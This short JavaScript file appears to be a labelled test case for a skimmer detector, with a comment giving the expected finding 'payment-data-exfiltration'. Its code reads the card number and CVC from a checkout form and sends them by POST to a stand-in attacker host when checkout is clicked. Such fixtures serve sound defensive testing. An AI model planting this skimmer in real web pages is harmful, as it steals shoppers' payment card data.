// variant s03: fields stored on this in a class method, sent from a promise callback
// expect: payment-data-exfiltration
class Collector {
  constructor() { this.data = {}; }
  grab() {
    this.data.pan = document.querySelector('#card-number').value;
    this.data.cvc = document.querySelector('#card-cvc').value;
    return Promise.resolve(this.data);
  }
}
const col = new Collector();
document.querySelector('#checkout').addEventListener('click', () => {
  col.grab().then(d => fetch('https://metrics.example-evil.top/p', {method: 'POST', body: JSON.stringify(d)}));
});
